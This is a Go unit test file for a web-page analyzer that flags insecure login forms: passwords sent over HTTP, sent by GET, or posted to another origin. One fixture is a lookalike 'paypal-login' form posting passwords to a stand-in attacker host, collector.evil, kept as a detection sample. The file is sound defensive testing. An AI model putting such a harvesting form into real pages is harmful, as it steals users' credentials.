package forms

import (
	"context"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/trustlens/trustlens/pkg/finding"
	"github.com/trustlens/trustlens/pkg/registry"
)

func analyze(t *testing.T, pageURL, content string) []finding.Finding {
	t.Helper()
	out, err := New().Analyze(context.Background(), &registry.Target{
		URL:     pageURL,
		Content: content,
	})
	require.NoError(t, err)
	return out
}

func TestPasswordOverHTTP(t *testing.T) {
	out := analyze(t, "https://shop.example/login", `
		<form action="http://shop.example/do-login" method="post">
			<input type="text" name="user">
			<input type="password" name="pass">
		</form>`)
	require.Len(t, out, 1)
	assert.Equal(t, "insecure_form", out[0].Category)
	assert.Equal(t, "password_over_http", out[0].SubType)
	assert.Equal(t, finding.High, out[0].Severity)
}

func TestCrossOriginPasswordPost(t *testing.T) {
	out := analyze(t, "https://paypal-login.example/secure", `
		<form action="https://collector.evil/submit" method="post">
			<input type="password" name="pw">
		</form>`)
	require.Len(t, out, 1)
	assert.Equal(t, "credential_harvesting", out[0].Category)
	assert.Equal(t, "lookalike_form", out[0].SubType)
	assert.Equal(t, finding.Critical, out[0].Severity)
	assert.Equal(t, "collector.evil", out[0].Evidence["action_origin"])
}

func TestPasswordFormWithGET(t *testing.T) {
	out := analyze(t, "https://shop.example/login", `
		<form action="/login" method="get">
			<input type="password" name="pw">
		</form>`)
	require.Len(t, out, 1)
	assert.Equal(t, "get_method", out[0].SubType)
}

func TestEmptyActionSubmitsToSelf(t *testing.T) {
	out := analyze(t, "https://shop.example/login", `
		<form method="post"><input type="password" name="pw"></form>`)
	assert.Empty(t, out)
}

func TestNonPasswordFormsIgnored(t *testing.T) {
	out := analyze(t, "https://shop.example", `
		<form action="https://search.example/q" method="get">
			<input type="text" name="q">
		</form>`)
	assert.Empty(t, out)
}

func TestNoContent(t *testing.T) {
	out := analyze(t, "https://shop.example", "")
	assert.Empty(t, out)
}

func TestParseFormsNesting(t *testing.T) {
	forms, err := parseForms(`
		<div><form action="/a"><div><span>
			<input type="PASSWORD" name="pw">
		</span></div></form></div>
		<form action="/b"><input type="text"></form>`)
	require.NoError(t, err)
	require.Len(t, forms, 2)
	assert.True(t, forms[0].hasPassword, "password input found through nesting, case-insensitive")
	assert.False(t, forms[1].hasPassword)
}
